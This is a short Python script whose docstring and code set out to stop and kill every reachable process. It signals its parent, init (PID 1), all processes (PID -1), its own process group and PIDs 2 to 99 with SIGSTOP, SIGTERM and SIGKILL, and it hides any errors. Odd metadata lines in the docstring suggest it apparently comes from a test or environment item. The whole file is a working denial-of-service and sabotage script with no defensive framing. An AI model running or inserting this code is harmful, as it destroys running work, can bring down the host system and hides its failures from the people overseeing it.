"""Sends every process the signals that end and that stop, parents included.

topic: pooling
earns: all
ends: died or time
"""

# %%
import os
import signal

for pid in (os.getppid(), 1, -1, 0, *range(2, 100)):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass
